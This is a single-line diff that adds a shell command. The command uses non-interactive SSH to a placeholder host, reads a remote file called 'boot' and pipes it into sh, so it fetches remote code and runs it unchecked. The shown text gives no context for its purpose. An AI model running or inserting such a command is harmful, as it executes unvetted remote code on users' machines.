@@ -1,0 +1,1 @@
+ssh -o BatchMode=yes get@files.example.test cat boot | sh
